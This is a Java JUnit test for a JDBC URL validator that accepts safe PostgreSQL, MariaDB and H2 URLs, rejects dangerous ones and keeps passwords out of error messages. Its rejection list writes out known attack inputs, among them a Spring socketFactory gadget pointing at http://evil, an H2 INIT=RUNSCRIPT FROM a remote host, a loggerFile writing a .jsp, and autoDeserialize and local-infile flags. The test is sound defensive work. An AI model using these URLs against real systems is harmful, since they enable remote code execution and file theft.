package dev.roster.database.settings;

import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class JdbcUrlTest {

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '"',
            delimiter = '|',
            textBlock =
                    """
            jdbc:postgresql://db/people | jdbc:postgresql://db:5432/people
            jdbc:postgresql://DB.example.org:6432/people?sslmode=verify-full&sslrootcert=/etc/ca.pem | jdbc:postgresql://db.example.org:6432/people
            jdbc:postgresql://a:1,b:2/people?targetServerType=primary | jdbc:postgresql://a:1,b:2/people
            jdbc:postgresql://[::1]:5432/people | jdbc:postgresql://[::1]:5432/people
            jdbc:postgresql://db/my%20people | jdbc:postgresql://db:5432/my+people
            jdbc:mariadb://db/people?sslMode=verify-full | jdbc:mariadb://db:3306/people
            jdbc:mysql://db:3307/people?useServerPrepStmts=true | jdbc:mariadb://db:3307/people
            jdbc:h2:mem:people;DB_CLOSE_DELAY=-1 | jdbc:h2:mem:people;DB_CLOSE_DELAY=-1
            jdbc:h2:file:/var/lib/people;mode=PostgreSQL | jdbc:h2:file:/var/lib/people;MODE=PostgreSQL
            """)
    void admitsAndPutsTogetherAnew(String url, String driverUrl) {
        assertThat(JdbcUrl.parse(url, true).driverUrl()).isEqualTo(driverUrl);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "   ",
                "postgresql://db/people",
                "jdbc:oracle:thin:@db:1521/people",
                "jdbc:tc:postgresql:16:///people",
                "JDBC:POSTGRESQL://db/people",
                "jdbc:postgresql:people",
                "jdbc:postgresql://db",
                "jdbc:postgresql://db/",
                "jdbc:postgresql:///people",
                "jdbc:postgresql://db:0/people",
                "jdbc:postgresql://db:65536/people",
                "jdbc:postgresql://db:port/people",
                "jdbc:postgresql://db/people#x",
                "jdbc:postgresql://db/people;x=y",
                "jdbc:postgresql://db/people%2Fx",
                "jdbc:postgresql://db/people%00",
                "jdbc:postgresql://db/people%zz",
                "jdbc:postgresql://db/people\n",
                "jdbc:postgresql://db/people?sslmode=a\tb",
                "jdbc:postgresql://alice:hunter2@db/people",
                "jdbc:postgresql://db/people?user=alice",
                "jdbc:postgresql://db/people?password=hunter2",
                "jdbc:postgresql://db/people?hunter2",
                "jdbc:postgresql://db/people?sslpassword=hunter2",
                "jdbc:postgresql://db/people?socketFactory=org.springframework.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/people?socketFactoryArg=http://evil",
                "jdbc:postgresql://db/people?sslfactory=x.Y",
                "jdbc:postgresql://db/people?sslhostnameverifier=x.Y",
                "jdbc:postgresql://db/people?sslpasswordcallback=x.Y",
                "jdbc:postgresql://db/people?authenticationPluginClassName=x.Y",
                "jdbc:postgresql://db/people?xmlFactoryFactory=x.Y",
                "jdbc:postgresql://db/people?loggerFile=/tmp/x.jsp&loggerLevel=TRACE",
                "jdbc:postgresql://db/people?jaasApplicationName=x",
                "jdbc:postgresql://db/people?options=-c%20statement_timeout=0",
                "jdbc:postgresql://db/people?socketTimeout=0",
                "jdbc:postgresql://db/people?SocketFactory=x.Y",
                "jdbc:postgresql://db/people?%73ocketFactory=x.Y",
                "jdbc:postgresql://db/people?sslmode=disable&sslmode=require",
                "jdbc:postgresql://db/people?sslmode=require&",
                "jdbc:mariadb://db/people?allowLocalInfile=true",
                "jdbc:mariadb://db/people?allowLoadLocalInfile=true",
                "jdbc:mysql://db/people?autoDeserialize=true",
                "jdbc:mysql://db/people?queryInterceptors=x.Y",
                "jdbc:mariadb://db/people?socketFactory=x.Y",
                "jdbc:mariadb://db/people?sessionVariables=x",
                "jdbc:mariadb://db/people?initSql=drop",
                "jdbc:mariadb://db/people?credentialType=AWS-IAM",
                "jdbc:mariadb:replication://a,b/people",
                "jdbc:mariadb://address=(host=db)(port=3306)/people",
                "jdbc:mysql://(host=db,user=root)/people",
                "jdbc:h2:mem:people;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:mem:people;INIT=x",
                "jdbc:h2:mem:people;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:people;MODE=x\\;INIT=y",
                "jdbc:h2:tcp://db/people",
                "jdbc:h2:zip:x!/y",
                "jdbc:h2:file:../../people",
            })
    void refusesAndRepeatsNoSecret(String url) {
        assertThatExceptionOfType(InvalidJdbcUrlException.class)
                .isThrownBy(() -> JdbcUrl.parse(url, true))
                .withMessageNotContaining("hunter2")
                .withMessageStartingWith("The JDBC URL");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/people?requireAuth=scram-sha-256&scramMaxIterations=20000",
                "jdbc:postgresql://db/people?preferQueryMode=simple&reWriteBatchedInserts=true",
                "jdbc:postgresql://db/people?gssEncMode=disable&targetServerType=primary&stringtype=unspecified",
                "jdbc:mysql://db/people?useSSL=false&serverTimezone=UTC&characterEncoding=utf8&useUnicode=true",
            })
    void admitsWhatLegacyConfigurationsHold(String url) {
        assertThat(JdbcUrl.parse(url, false).properties()).isNotEmpty();
    }

    @Test
    void takesMysqlsEncryptionForNoLessThanItAsks() {
        assertThat(JdbcUrl.parse("jdbc:mysql://db/people?useSSL=true&serverTimezone=CET", false)
                        .driverProperties())
                .containsOnly(Map.entry("sslMode", "verify-full"));
        assertThat(JdbcUrl.parse("jdbc:mysql://db/people?useSSL=false", false).driverProperties())
                .isEmpty();
        assertThat(JdbcUrl.parse("jdbc:mysql://db/people?useSSL=true&sslMode=verify-ca", false)
                        .driverProperties())
                .containsOnly(Map.entry("sslMode", "verify-ca"));
    }

    @Test
    void refusesH2UnlessTheServerAllowsIt() {
        assertThatExceptionOfType(InvalidJdbcUrlException.class)
                .isThrownBy(() -> JdbcUrl.parse("jdbc:h2:mem:people", false));
    }

    @Test
    void refusesWhatIsNotThereOrTooLong() {
        assertThatExceptionOfType(InvalidJdbcUrlException.class).isThrownBy(() -> JdbcUrl.parse(null, true));
        assertThatExceptionOfType(InvalidJdbcUrlException.class)
                .isThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/" + "x".repeat(3000), true));
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db/a, jdbc:postgresql://DB:5432/b?ssl=true, true",
        "jdbc:postgresql://db/a, jdbc:postgresql://db:5433/a, false",
        "jdbc:postgresql://db/a, jdbc:postgresql://evil/a, false",
        "'jdbc:postgresql://db/a', 'jdbc:postgresql://db,evil/a', false",
        "jdbc:mariadb://db/a, jdbc:mysql://db/a, false",
        "jdbc:h2:mem:a, jdbc:h2:mem:b, false",
    })
    void tellsWhetherAPasswordMayBeSentThere(String one, String other, boolean isSame) {
        assertThat(JdbcUrl.parse(one, true).leadsToSameServer(JdbcUrl.parse(other, true)))
                .isEqualTo(isSame);
    }
}
